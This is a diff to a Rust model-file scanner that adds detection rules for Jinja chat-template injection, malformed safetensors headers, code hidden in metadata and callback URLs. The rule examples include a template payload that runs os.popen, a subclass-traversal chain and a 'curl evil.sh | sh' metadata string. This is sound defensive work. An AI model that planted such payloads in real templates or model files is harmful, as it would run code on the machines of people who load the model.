@@ -1,5 +1,5 @@
-//! Rules of the container formats: archives (`ARC`), PyTorch (`TRC`) and
-//! NumPy (`NPY`).
+//! Rules of the container and document formats: archives (`ARC`), PyTorch
+//! (`TRC`), NumPy (`NPY`), templates and configs (`CFG`).
 
 use crate::finding::Severity;
 use crate::rules::Rule;
@@ -104,6 +104,77 @@ pub static NPY001: Rule = Rule {
     references: &[],
 };
 
+pub static CFG001: Rule = Rule {
+    id: "CFG001",
+    severity: Severity::Critical,
+    title: "Template reaches Python internals and code execution",
+    what: "A Jinja template (a chat template in `tokenizer_config.json` or GGUF metadata, a standalone template, a template string in a config) walks from an ordinary object to Python internals (`__class__`, `__mro__`, `__subclasses__`, `__globals__`, `__builtins__`, ...) and names a way to act: a process, code, import, file or network callable or module (`os`, `system`, `popen`, `eval`, `__import__`, `open`, `urlopen`, ...), or calls an object fetched from the class hierarchy. String escapes and concatenated constants are resolved first; a template that does not parse is judged region by region.",
+    why: "Loaders render chat templates with Jinja; an engine that is not sandboxed (llama-cpp-python before 0.2.72, custom pipelines) runs the payload on the first chat request. Ordinary chat templates never touch a dunder attribute.",
+    example: "`{{ cycler.__init__.__globals__.os.popen('id').read() }}` as `chat_template`.",
+    references: &["CVE-2024-34359", "CWE-1336"],
+};
+
+pub static CFG002: Rule = Rule {
+    id: "CFG002",
+    severity: Severity::Warning,
+    title: "Template traverses Python object internals",
+    what: "A Jinja template reaches dunder attributes (`__class__`, `__mro__`, `__subclasses__`, `__globals__`, ...) or computes an attribute name at render time (`|attr(x)` with a non-constant `x`), without naming a way to act that Probity recognises.",
+    why: "Object traversal is the first half of every template-injection payload and has no use in a chat template; the second half may be hidden in ways a static reading cannot resolve (names built with `chr()`, values from the context).",
+    example: "`{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1)|attr('__subclasses__')() }}`.",
+    references: &["CWE-1336"],
+};
+
+pub static CFG003: Rule = Rule {
+    id: "CFG003",
+    severity: Severity::Info,
+    title: "Template does not parse",
+    what: "A Jinja template string in a JSON config is rejected by minijinja's lexer or parser (an unterminated string or block, syntax minijinja does not share with Python's Jinja). A template the lexer rejects is judged region by region; this finding says only that it does not parse.",
+    why: "A loader may refuse to render it, so the model's chat formatting may be broken; a broken template is also a place where scanners that give up can be fooled.",
+    example: "`{\"chat_template\": \"{{ unclosed_bracket\"}`.",
+    references: &[],
+};
+
+pub static CFG004: Rule = Rule {
+    id: "CFG004",
+    severity: Severity::Warning,
+    title: "Text document or template too large to inspect",
+    what: "A JSON, YAML or template document is larger than the text limit (`MAX_TEXT_DOCUMENT` in src/limits.rs), or one template in it is larger than `MAX_TEMPLATE`, so it was not inspected.",
+    why: "Configs, tokenizer files and chat templates are small; something larger cannot be called clean, and padding is a way to push a payload past a scanner's limits.",
+    example: "A 300 MB `tokenizer_config.json`.",
+    references: &[],
+};
+
+pub static SFT001: Rule = Rule {
+    id: "SFT001",
+    severity: Severity::Warning,
+    title: "safetensors header is malformed or inconsistent",
+    what: "The header length runs past the file, the header is not a JSON object, a tensor lacks its dtype, shape or offsets, a dtype is unknown, a size disagrees with its shape, offsets leave the data, overlap, or leave bytes no tensor describes.",
+    why: "The reference loader refuses such files while lenient readers accept them, and undescribed bytes are where a second payload (a pickle, an archive) rides along in a file that looks like safe weights.",
+    example: "A `model.safetensors` whose data section ends with 4 KiB no tensor points to.",
+    references: &["CWE-20", "CWE-436"],
+};
+
+pub static SFT002: Rule = Rule {
+    id: "SFT002",
+    severity: Severity::Warning,
+    title: "safetensors metadata holds code or shell text",
+    what: "A `__metadata__` string contains Python code, shell commands or script markup (`import os`, `os.system`, `eval(`, `exec(`, `b64decode(`, `rm -rf`, `curl `, `wget `, `<script`, ...).",
+    why: "safetensors never executes metadata, but tools that display it or pass it on (model cards, training scripts that `eval` a config string) can; weights have no reason to carry commands.",
+    example: "`{\"__metadata__\": {\"setup\": \"import os; os.system('curl evil.sh | sh')\"}}`.",
+    references: &["CWE-94"],
+};
+
+pub static NET001: Rule = Rule {
+    id: "NET001",
+    severity: Severity::Info,
+    title: "Network address in model metadata",
+    what: "Model metadata names URLs (listed in the evidence).",
+    why: "Provenance links are ordinary; callback, download or exfiltration addresses are not. Listed so that a reviewer sees where a model points.",
+    example: "`__metadata__` with `\"callback_url\": \"http://203.0.113.5/collect\"`.",
+    references: &[],
+};
+
 pub static RULES: &[&Rule] = &[
-    &ARC001, &ARC002, &ARC003, &ARC004, &ARC005, &ARC006, &ARC007, &ARC008, &TRC001, &NPY001,
+    &ARC001, &ARC002, &ARC003, &ARC004, &ARC005, &ARC006, &ARC007, &ARC008, &CFG001, &CFG002,
+    &CFG003, &CFG004, &NET001, &SFT001, &SFT002, &TRC001, &NPY001,
 ];
